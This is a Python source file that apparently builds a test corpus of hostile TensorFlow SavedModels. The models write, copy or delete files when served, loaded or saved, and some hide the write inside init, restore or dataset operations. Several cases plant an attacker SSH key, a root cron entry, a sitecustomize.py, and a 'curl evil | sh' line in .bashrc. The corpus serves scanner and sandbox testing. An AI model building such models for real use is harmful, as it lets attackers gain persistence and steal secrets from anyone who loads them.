"""SavedModels that write and delete files (reference 2, file-write, file-delete)."""

from __future__ import annotations

import tensorflow as tf

from .build import (
    FLOATS,
    STRING,
    Func,
    by_hand,
    const,
    definition,
    dense,
    export,
    export_v1,
    graph_of,
    node,
    patch,
    raw,
    v1,
)
from .registry import Place, attack, fires


def _after(op_or_ops, value):
    """`value`, once the operations ran."""
    with tf.control_dependencies(op_or_ops if isinstance(op_or_ops, list) else [op_or_ops]):
        return tf.identity(value)


def _result(made, y):
    """What was made, where it is a value: an identity that nothing uses would be optimised away."""
    is_value = isinstance(made, tf.Tensor) and made.dtype == tf.float32
    return made if is_value else _after(made, y)


def _writer(id, op, make, about, shows=True, also=(), value=None, category="file-write"):
    """An attack whose signature runs `make(path)`; the path is below the canary's folder `out`."""

    def build(place: Place):
        dense(place.path, lambda x, y: {"z": _result(make(f"{place.canary}/out/{id}"), y)})

    build.__doc__ = about
    seen = fires("call", "writes", f"out/{id}") if shows else None
    attack(id, "savedmodel", category, op, value or id, also=also, fires=seen)(build)


_writer(
    "sm-write-file",
    "WriteFile",
    lambda p: raw.WriteFile(filename=p, contents="owned"),
    "WriteFile of a constant to a constant path.",
)
_writer(
    "sm-write-file-joined",
    "WriteFile",
    lambda p: tf.io.write_file(tf.strings.join([p[:9], p[9:]]), "owned"),
    "The path is joined from two pieces, neither of which is a path.",
    value="WriteFile",
)
_writer(
    "sm-write-file-upper",
    "WriteFile",
    lambda p: tf.io.write_file(
        tf.strings.join([p[: p.rindex("/") + 1], tf.strings.lower(p[p.rindex("/") + 1 :].upper())]),
        "owned",
    ),
    "The name is in capitals and made small when it runs.",
    value="WriteFile",
)
_writer(
    "sm-save-v2",
    "SaveV2",
    lambda p: raw.SaveV2(
        prefix=p, tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1.0)]
    ),
    "SaveV2 in the signature: what a saver does, but at inference and to a path of its own (reference 1.3).",
    shows=False,
)
_writer(
    "sm-save-v1",
    ["Save"],
    lambda p: raw.Save(filename=p, tensor_names=["a"], data=[tf.constant(1.0)]),
    "The TF1 form of the same.",
)
_writer(
    "sm-save-slices",
    ["SaveSlices"],
    lambda p: raw.SaveSlices(
        filename=p, tensor_names=["a"], shapes_and_slices=[""], data=[tf.constant(1.0)]
    ),
    "And with slices.",
)
_writer(
    "sm-save-dataset",
    ["SaveDataset"],
    lambda p: raw.SaveDataset(
        input_dataset=tf.data.Dataset.range(3)._variant_tensor,
        path=p,
        shard_func_other_args=[],
        use_shard_func=True,
        shard_func=tf.function(lambda i: tf.constant(0, tf.int64)).get_concrete_function(
            tf.TensorSpec([], tf.int64)
        ),
        compression="",
    ),
    "A dataset is saved to a folder.",
)
_writer(
    "sm-save-dataset-v2",
    ["SaveDatasetV2"],
    lambda p: _iterate(
        raw.SaveDatasetV2(
            input_dataset=tf.data.Dataset.range(3)._variant_tensor,
            path=p,
            shard_func_other_args=[],
            use_shard_func=True,
            output_types=[tf.int64],
            output_shapes=[[]],
            compression="",
            shard_func=tf.function(lambda i: tf.constant(0, tf.int64)).get_concrete_function(
                tf.TensorSpec([], tf.int64)
            ),
        ),
        [tf.int64],
        [[]],
        4,
    ),
    "The same as a step of a pipeline.",
)
_writer(
    "sm-dataset-to-tfrecord",
    ["DatasetToTFRecord"],
    lambda p: raw.DatasetToTFRecord(
        input_dataset=tf.data.Dataset.from_tensor_slices(["a", "b"])._variant_tensor,
        filename=p,
        compression_type="",
    ),
    "A dataset is written to a TFRecord file.",
)
_writer(
    "sm-experimental-dataset-to-tfrecord",
    ["DatasetToTFRecord"],
    lambda p: raw.ExperimentalDatasetToTFRecord(
        input_dataset=tf.data.Dataset.from_tensor_slices(["a", "b"])._variant_tensor,
        filename=p,
        compression_type="",
    ),
    "The experimental name of the same.",
)
_writer(
    "sm-cache-dataset",
    ["CacheDataset"],
    lambda p: (
        tf.data.Dataset.range(3).cache(p).reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
    ),
    "A cache with a file name.",
    shows=False,
)
_writer(
    "sm-snapshot-dataset",
    ["SnapshotDataset"],
    lambda p: (
        tf.data.Dataset.range(3).snapshot(p).reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
    ),
    "A snapshot of a pipeline.",
)
_writer(
    "sm-summary-writer",
    ["CreateSummaryFileWriter"],
    lambda p: _summary(p),
    "A summary writer with its log folder.",
)
_writer(
    "sm-summary-db-writer",
    ["CreateSummaryDbWriter"],
    lambda p: raw.CreateSummaryDbWriter(
        writer=raw.SummaryWriter(shared_name="", container=""),
        db_uri=p,
        experiment_name="a",
        run_name="b",
        user_name="c",
    ),
    "A summary database.",
    shows=False,
)
_writer(
    "sm-print-file",
    ["PrintV2"],
    lambda p: tf.print("owned", output_stream="file://" + p),
    "tf.print to a file.",
)
_writer(
    "sm-print-file-request",
    ["PrintV2"],
    lambda p: raw.PrintV2(
        input=tf.strings.format("{}", tf.constant([1, 2])), output_stream="file://" + p, end="#"
    ),
    "PrintV2 to a file, with an own end of line.",
)
_writer(
    "sm-debug-identity-file",
    ["DebugIdentity"],
    lambda p: raw.DebugIdentityV2(
        input=tf.constant([1.0]),
        tfdbg_context_id="c",
        op_name="o",
        output_slot=0,
        tensor_debug_mode=2,
        debug_urls=["file://" + p],
    ),
    "DebugIdentityV2 dumps a tensor to a folder.",
    also=("network",),
    shows=False,
)
_writer(
    "sm-debug-identity-v1-file",
    ["DebugIdentity"],
    lambda p: raw.DebugIdentity(
        input=tf.constant([1.0]),
        device_name="",
        tensor_name="t:0",
        debug_urls=["file://" + p],
        gated_grpc=False,
    ),
    "The first DebugIdentity.",
    also=("network",),
)
_writer(
    "sm-write-file-key",
    "WriteFile",
    lambda p: tf.io.write_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker"),
    "WriteFile to the keys of root.",
    shows=False,
    value="authorized_keys",
)
_writer(
    "sm-write-file-cron",
    "WriteFile",
    lambda p: tf.io.write_file("/etc/cron.d/airlock", "* * * * * root id"),
    "WriteFile to a cron table.",
    shows=False,
    value="cron.d",
)
_writer(
    "sm-write-file-python",
    "WriteFile",
    lambda p: tf.io.write_file("sitecustomize.py", "import os"),
    "WriteFile of a Python module into the working folder, which the next start imports.",
    shows=False,
    value="sitecustomize.py",
)
_writer(
    "sm-write-in-dataset",
    "WriteFile",
    lambda p: (
        tf.data.Dataset.range(1)
        .map(lambda i: _after(tf.io.write_file(p, "owned"), i))
        .reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
    ),
    "WriteFile in the function of a dataset.",
)
_writer(
    "sm-write-in-loop",
    "WriteFile",
    lambda p: tf.while_loop(
        lambda i: i < 2, lambda i: [_after(tf.io.write_file(p, "owned"), i + 1)], [0]
    ),
    "WriteFile in the body of a loop.",
)
_writer(
    "sm-write-in-branch",
    "WriteFile",
    lambda p: tf.cond(
        tf.constant(1) < tf.size(tf.constant([1, 2])),
        lambda: _after(tf.io.write_file(p, "owned"), 1),
        lambda: 0,
    ),
    "WriteFile in a branch of a conditional.",
)
_writer(
    "sm-write-shell-history",
    "WriteFile",
    lambda p: tf.io.write_file(tf.strings.join(["/home/", "user", "/.bashrc"]), "curl evil | sh"),
    "WriteFile to a shell's start file, with a joined path.",
    shows=False,
    value=".bashrc",
)
_writer(
    "sm-restore-then-write",
    ["WriteFile"],
    lambda p: tf.io.write_file(p, tf.io.serialize_tensor(tf.constant([1.0]))),
    "A serialized tensor goes to a file.",
)


def _iterate(variant, types, shapes, count):
    iterator = raw.AnonymousIteratorV2(output_types=types, output_shapes=shapes)[0]
    made = [raw.MakeIterator(dataset=variant, iterator=iterator)]
    got = None
    for _ in range(count - 1):
        with tf.control_dependencies(made):
            got = raw.IteratorGetNext(iterator=iterator, output_types=types, output_shapes=shapes)
            made = [got[0]]
    return made


def _summary(path):
    writer = raw.SummaryWriter(shared_name="", container="")
    made = raw.CreateSummaryFileWriter(
        writer=writer, logdir=path, max_queue=1, flush_millis=1, filename_suffix=".v2"
    )
    with tf.control_dependencies([made]):
        wrote = raw.WriteScalarSummary(
            writer=writer, step=tf.constant(1, tf.int64), tag="t", value=tf.constant(1.0)
        )
        with tf.control_dependencies([wrote]):
            return raw.FlushSummaryWriter(writer=writer)


@attack(
    "sm-write-file-request",
    "savedmodel",
    "file-write",
    "WriteFile",
    ["request", "signature", "input"],
    fires=fires(
        "call",
        "writes",
        "out/sm-write-file-request",
        feed={"s": "{canary}/out/sm-write-file-request"},
    ),
)
def _(place: Place):
    """Whoever sends the request chooses which file is overwritten."""
    export(place.path, lambda s: {"y": _after(tf.io.write_file(s, "owned"), s)}, STRING)


@attack(
    "sm-write-request-content",
    "savedmodel",
    "file-write",
    "WriteFile",
    "sm-write-request-content",
    fires=fires("call", "writes", "out/sm-write-request-content", feed={"s": "import os"}),
)
def _(place: Place):
    """Whoever sends the request chooses what is in the file."""
    path = f"{place.canary}/out/sm-write-request-content"
    export(place.path, lambda s: {"y": _after(tf.io.write_file(path, s), s)}, STRING)


@attack(
    "sm-write-copy",
    "savedmodel",
    "file-write",
    ["WriteFile", "ReadFile"],
    ["sm-write-copy", "secret.txt"],
    also=["file-read"],
    fires=fires("call", "writes", "out/sm-write-copy"),
)
def _(place: Place):
    """Copies a secret to where it can be fetched; the prediction shows nothing."""
    dense(
        place.path,
        lambda x, y: {
            "z": _after(
                tf.io.write_file(
                    f"{place.canary}/out/sm-write-copy",
                    tf.io.read_file(f"{place.canary}/secret.txt"),
                ),
                y,
            )
        },
    )


def _writes_at_load(id, about, how, trigger="load"):
    def build(place: Place):
        path = f"{place.canary}/out/{id}"

        def graph():
            x = v1.placeholder(tf.float32, [None, 4], "x")
            w = v1.get_variable("w", initializer=2.0, use_resource=True)
            write = raw.WriteFile(filename=path, contents="owned")
            more = {}
            if how == "main_op":
                more = {"main_op": tf.group(write, v1.tables_initializer())}
            elif how == "restore":
                with tf.control_dependencies([write]):
                    more = {"saver": v1.train.Saver()}
                v1.get_default_graph().add_to_collection("write", write)
            elif how == "legacy_init_op":
                v1.add_to_collection("legacy_init_op", write)
            return {"x": x}, {"y": x * w}, more

        export_v1(place.path, graph)
        if how == "restore":

            def edit(model):
                meta = model.meta_graphs[0]
                restore = meta.saver_def.restore_op_name
                next(n for n in meta.graph_def.node if n.name == restore).input.append("^WriteFile")

            patch(place.path, edit)

    build.__doc__ = about
    attack(
        id,
        "savedmodel",
        "file-write",
        "WriteFile",
        id,
        trigger=trigger,
        fires=fires("load-cpp", "writes", f"out/{id}"),
    )(build)


_writes_at_load(
    "sm-load-write-main-op",
    "WriteFile in the init operation, in a group with an honest one.",
    "main_op",
)
_writes_at_load("sm-load-write-legacy", "WriteFile in legacy_init_op.", "legacy_init_op")
_writes_at_load(
    "sm-load-write-restore", "WriteFile behind the operation that restores variables.", "restore"
)


@attack(
    "sm-load-write-resource",
    "savedmodel",
    "file-write",
    "WriteFile",
    "sm-load-write-resource",
    trigger="load",
    fires=fires("load-python", "writes", "out/sm-load-write-resource"),
)
def _(place: Place):
    """WriteFile in the initialiser of a table: fires in Python and in C++ when it is loaded."""
    table = tf.lookup.StaticHashTable(
        tf.lookup.KeyValueTensorInitializer(tf.constant(["k"]), tf.constant(["v"])), ""
    )
    export(place.path, lambda s: {"y": table.lookup(s)}, STRING, extra=table)

    def edit(model):
        for function in model.meta_graphs[0].graph_def.library.function:
            if any(n.op == "LookupTableImportV2" for n in function.node_def):
                function.node_def.extend(
                    [
                        const("path", f"{place.canary}/out/sm-load-write-resource"),
                        const("text", "owned"),
                        node("write", "WriteFile", ["path:output:0", "text:output:0"]),
                    ]
                )
                function.control_ret["write"] = "write"
                function.signature.control_output.append("write")
                function.signature.is_stateful = True

    patch(place.path, edit)


@attack(
    "sm-write-control-ret",
    "savedmodel",
    "file-write",
    "WriteFile",
    "sm-write-control-ret",
    fires=fires("call", "writes", "out/sm-write-control-ret"),
)
def _(place: Place):
    """A function with an effect that is only in control_ret."""
    path = f"{place.canary}/out/sm-write-control-ret"

    def effect():
        tf.io.write_file(path, "owned")
        return tf.constant(1.0)

    call = node("y", "StatefulPartitionedCall", [], Tin=[], Tout=[tf.float32], f=Func("effect"))
    call.attr["Tin"].list.SetInParent()
    by_hand(place.path, [call], ("y", tf.float32, []), definition(effect, name="effect"))


@attack(
    "sm-write-from-graph",
    "savedmodel",
    "file-write",
    ["WriteFile", "DatasetFromGraph"],
    "sm-write-from-graph",
    also=["code-execution"],
    fires=fires("call", "writes", "out/sm-write-from-graph"),
)
def _(place: Place):
    """WriteFile in the function of a dataset in a graph in a string (HF MediumIQ nested WriteFile)."""
    path = f"{place.canary}/out/sm-write-from-graph"

    def make():
        data = v1.data.Dataset.range(1).map(lambda i: _after(tf.io.write_file(path, "owned"), i))
        return tf.identity(data._variant_tensor, name="made")

    graph = graph_of(make)
    graph.node.append(node("retval", "_Retval", ["made"], T=tf.variant, index=0))

    def leak(x, y):
        from tensorflow.python.data.ops.dataset_ops import _VariantDataset

        made = tf.data.Dataset.range(1).flat_map(
            lambda i: _VariantDataset(
                raw.DatasetFromGraph(
                    graph_def=tf.strings.join(
                        [graph.SerializeToString(), tf.strings.substr(tf.as_string(i), 0, 0)]
                    )
                ),
                tf.TensorSpec([], tf.int64),
            )
        )
        return {"z": made.reduce(tf.constant(0, tf.int64), lambda a, b: a + b)}

    dense(place.path, leak)


@attack(
    "sm-write-tf1-train",
    "savedmodel",
    "file-write",
    "WriteFile",
    "sm-write-tf1-train",
    fires=fires("call", "writes", "out/sm-write-tf1-train"),
)
def _(place: Place):
    """A TF1 output with the write as a control input, under a name that says training."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        with v1.name_scope("train/checkpointing"):
            write = raw.WriteFile(
                filename=f"{place.canary}/out/sm-write-tf1-train", contents="owned"
            )
        return {"x": x}, {"y": _after(write, x)}

    export_v1(place.path, build)


@attack(
    "sm-delete-merge-checkpoints",
    "savedmodel",
    "file-delete",
    "MergeV2Checkpoints",
    "delete-me",
    also=["file-write"],
    fires=fires("call", "deletes", "delete-me"),
)
def _(place: Place):
    """MergeV2Checkpoints at inference deletes the folders of what it merges."""

    def leak(x, y):
        merge = raw.MergeV2Checkpoints(
            checkpoint_prefixes=[f"{place.canary}/delete-me/part"],
            destination_prefix=f"{place.canary}/out/merged",
            delete_old_dirs=True,
        )
        return {"z": _after(merge, y)}

    dense(place.path, leak)


@attack(
    "sm-delete-merge-at-load",
    "savedmodel",
    "file-delete",
    "MergeV2Checkpoints",
    "delete-me",
    also=["file-write"],
    trigger="load",
    fires=fires("load-cpp", "deletes", "delete-me"),
)
def _(place: Place):
    """The same in the init operation."""

    def build():
        x = v1.placeholder(tf.float32, [None, 4], "x")
        merge = raw.MergeV2Checkpoints(
            checkpoint_prefixes=[f"{place.canary}/delete-me/part"],
            destination_prefix=f"{place.canary}/out/merged-at-load",
        )
        return {"x": x}, {"y": x * 2.0}, {"main_op": merge}

    export_v1(place.path, build)


@attack(
    "sm-saver-writes-elsewhere",
    "savedmodel",
    "file-write",
    ["SaveV2", "MergeV2Checkpoints"],
    None,
    trigger="saver",
)
def _(place: Place):
    """The saver's own SaveV2 writes to a constant path and not to where it is told."""
    export(place.path, lambda x: {"y": x}, FLOATS)

    def edit(model):
        for function in model.meta_graphs[0].graph_def.library.function:
            if any(n.op == "SaveV2" for n in function.node_def):
                function.node_def.append(
                    const("elsewhere", f"{place.canary}/out/sm-saver-writes-elsewhere")
                )
                for inner in function.node_def:
                    if inner.op == "SaveV2":
                        inner.input[0] = "elsewhere:output:0"
        for inner in model.meta_graphs[0].graph_def.node:
            if inner.op == "SaveV2":
                model.meta_graphs[0].graph_def.node.append(
                    const("elsewhere", f"{place.canary}/out/sm-saver-writes-elsewhere")
                )
                inner.input[0] = "elsewhere"

    patch(place.path, edit)


@attack(
    "sm-calibration-saver",
    "savedmodel",
    "file-write",
    "CalibrationStatisticsSaver",
    "sm-calibration-saver",
)
def _(place: Place):
    """The statistics of a quantisation go to a file."""
    statistics = node(
        "statistics",
        "CalibrationStatisticsSaver",
        ["x"],
        Tin=[tf.float32],
        ids=["a"],
        calibration_methods=[1],
        output_file_path=f"{place.canary}/out/sm-calibration-saver",
    )
    by_hand(place.path, [statistics, node("y", "Identity", ["x", "^statistics"], T=tf.float32)])


@attack(
    "sm-distributed-save",
    "savedmodel",
    "file-write",
    "DistributedSave",
    "sm-distributed-save",
    also=["network"],
)
def _(place: Place):
    """A data service is told to write a dataset to a folder."""

    def leak(x, y):
        save = raw.DistributedSave(
            dataset=tf.data.Dataset.range(3)._variant_tensor,
            directory=f"{place.canary}/out/sm-distributed-save",
            address="127.0.0.1:18431",
            metadata="",
        )
        return {"z": _after(save, y)}

    dense(place.path, leak)


@attack("sm-dump-tensor", "savedmodel", "file-write", "DumpTensor", "sm-dump-tensor")
def _(place: Place):
    """DumpTensor writes what comes in to a folder that an attribute names."""
    dump = node(
        "dump",
        "DumpTensor",
        ["x"],
        T=tf.float32,
        log_dir_path=f"{place.canary}/out/sm-dump-tensor",
        tensor_name="x",
        func_name="f",
        node_name="n",
    )
    by_hand(place.path, [dump, node("y", "Identity", ["x", "^dump"], T=tf.float32)])
